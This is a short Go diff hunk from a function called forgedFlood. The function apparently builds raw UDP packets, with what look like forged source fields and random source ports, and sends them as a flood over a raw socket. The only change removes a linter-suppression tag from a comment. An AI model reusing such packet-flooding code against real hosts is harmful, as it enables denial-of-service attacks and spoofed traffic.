@@ -65,7 +65,7 @@ func (f *flooder) forgedFlood(ctx context.Context, dst netip.AddrPort, payloads 
 		copy(pkt[16:20], to.Addr[:])
 		binary.BigEndian.PutUint16(pkt[20:], 1024+binary.BigEndian.Uint16(rnd[3:])%60000)
 		binary.BigEndian.PutUint16(pkt[22:], dst.Port())
-		binary.BigEndian.PutUint16(pkt[24:], uint16(8+len(payload))) //nolint:gosec // small
+		binary.BigEndian.PutUint16(pkt[24:], uint16(8+len(payload))) // small
 		pkt = append(pkt, payload...)
 
 		if syscall.Sendto(fd, pkt, 0, to) == nil {
